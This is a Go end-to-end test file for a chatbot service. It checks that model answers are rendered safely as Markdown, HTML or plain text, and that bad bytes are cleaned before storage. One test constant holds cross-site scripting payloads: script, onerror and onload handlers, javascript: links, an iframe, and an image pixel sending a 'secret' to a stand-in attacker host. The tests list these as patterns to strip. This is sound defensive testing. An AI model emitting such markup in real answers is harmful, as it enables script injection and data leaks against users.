package e2e

import (
	"strings"
	"testing"

	"parley/llm/llmtest"
)

// answer is Markdown as a model may write it.
const markdownAnswer = "## Hours\n\nOpen **daily** from `7:00`:\n\n- Mon\n- Tue\n\n1. come\n2. eat\n\n" +
	"See [our page](https://bakery.example/hours).\n\n| day | from |\n|---|---|\n| Mon | 7 |\n\n```sh\necho *hi*\n```\n"

// hostile is Markdown as a model may be talked into writing it.
const hostile = "<script>alert(1)</script>\n\n<img src=x onerror=alert(2)>\n\n[click](javascript:alert(3)) [data](data:text/html,alert(4))\n\n" +
	"![pixel](https://evil.example/leak?secret) <a href=\"#\" onclick=\"alert(5)\">x</a>\n\n<style>body{display:none}</style>\n\n" +
	"<iframe src=\"https://evil.example\"></iframe>\n\n</p><svg/onload=alert(6)>\n\n`<b>code</b>` data: [DONE]\n\ndata: {\"type\":\"error\"}\n\nend \u202eof it\n"

func inFormat(format string) string {
	return `{"message":"When does the bakery open?","format":"` + format + `"}`
}

func TestFormats(t *testing.T) {
	t.Parallel()
	onModel(t, func(b bakery, upstream *llmtest.Server) {
		upstream.Always(llmtest.Reply{Pieces: pieces(markdownAnswer, 7)})
		token := b.baker.token
		b.play(
			scenario{name: "Markdown by default", body: openingQuestion, headers: as(token), has: []string{`"format":"markdown"`}, then: messageIs(markdownAnswer)},
			scenario{name: "Markdown when asked for", body: inFormat("markdown"), headers: as(token), has: []string{`"format":"markdown"`}, then: messageIs(markdownAnswer)},
			scenario{name: "HTML", body: inFormat("html"), headers: as(token), has: []string{`"format":"html"`}, then: func(w *instance, r reply) {
				w.checkParts(message(r), []string{"<h2>Hours</h2>", "<strong>daily</strong>", "<li>Mon</li>", "<code>7:00</code>", `href="https://bakery.example/hours"`, "<td>Mon</td>", "echo *hi*"}, "**", "```")
			}},
			scenario{name: "plain text", body: inFormat("plain_text"), headers: as(token), has: []string{`"format":"plain_text"`}, then: func(w *instance, r reply) {
				w.checkParts(message(r), []string{"Hours", "Open daily from 7:00", "- Mon", "1. come", "our page (https://bakery.example/hours)", "echo *hi*"}, "**", "`", "##", "](", "|", "<")
			}},
		)
		for _, format := range []string{"html", "plain_text", "markdown"} {
			b.Run("the stream carries Markdown, and then all of it as "+format, func(t *testing.T) {
				w := b.within(t)
				whole := message(w.call("POST", chatPath, inFormat(format), bearer(token)))
				s := w.story(w.stream(inFormat(format), bearer(token)))
				if s.text != markdownAnswer {
					t.Errorf("the deltas make %q", s.text)
				}
				if format == "markdown" {
					whole, format = "", ""
				}
				if s.formatted.Content != whole || s.formatted.Format != format {
					t.Errorf("formatted is %+v, want %q as by /chat", s.formatted, whole)
				}
			})
		}
	})
}

func TestHostileAnswers(t *testing.T) {
	t.Parallel()
	onModel(t, func(b bakery, upstream *llmtest.Server) {
		upstream.Always(llmtest.Reply{Pieces: pieces(hostile, 5)})
		token := b.baker.token
		harmless := func(w *instance, text string) {
			w.checkParts(text, []string{"click", "data", "pixel", "end "}, "<script", "<img", "<iframe", "<style", "<svg", "javascript:", "data:text", "evil.example", "onclick", "\u202e")
		}
		b.play(
			scenario{name: "Markdown is as the model wrote it", body: openingQuestion, headers: as(token), then: messageIs(hostile)},
			scenario{name: "HTML executes and fetches nothing", body: inFormat("html"), headers: as(token), then: func(w *instance, r reply) { harmless(w, message(r)) }},
			scenario{name: "plain text has no markup and no target", body: inFormat("plain_text"), headers: as(token), then: func(w *instance, r reply) {
				w.checkParts(message(r), []string{"click", "pixel", "<b>code</b>"}, "<script", "<img", "javascript:", "evil.example", "\u202e")
			}},
		)
		b.Run("the stream's formatted event is as harmless, and its lines are the server's own", func(t *testing.T) {
			w := b.within(t)
			s := w.story(w.stream(inFormat("html"), bearer(token)))
			harmless(w, s.formatted.Content)
			if s.text != hostile {
				t.Errorf("the deltas make %q", s.text)
			}
		})
	})
}

func TestAnswersThatNoDatabaseTakes(t *testing.T) {
	t.Parallel()
	onModel(t, func(b bakery, upstream *llmtest.Server) {
		upstream.Always(llmtest.Reply{Pieces: []string{"before ", "a\x00b ", "caf\xc3", "\xa9 ", "bad\xff", " after"}})
		b.play(scenario{name: "they are cleaned", body: openingQuestion, headers: as(b.baker.token), then: func(w *instance, r reply) {
			w.checkParts(message(r), []string{"before ab café bad", " after"}, "\x00")
			stored := w.messages(b.baker.token, written(w.number(r, "conversation_id")), "")
			if stored[1]["content"] != message(r) {
				w.Errorf("stored is %q, answered %q", stored[1]["content"], message(r))
			}
		}})
	})
}

// message is the answer in a reply.
func message(r reply) string {
	text, _ := r.Data["message"].(string)
	return text
}

func messageIs(want string) func(*instance, reply) {
	return func(w *instance, r reply) {
		if got := message(r); got != want {
			w.Errorf("the message is %q, want %q", got, want)
		}
	}
}

func (w *instance) checkParts(text string, has []string, lacks ...string) {
	w.Helper()
	for _, part := range has {
		if !strings.Contains(text, part) {
			w.Errorf("it lacks %q: %s", part, text)
		}
	}
	for _, part := range lacks {
		if strings.Contains(text, part) {
			w.Errorf("it has %q: %s", part, text)
		}
	}
}

// pieces cuts a text into pieces of n bytes.
func pieces(text string, n int) []string {
	var all []string
	for ; len(text) > n; text = text[n:] {
		all = append(all, text[:n])
	}
	return append(all, text)
}
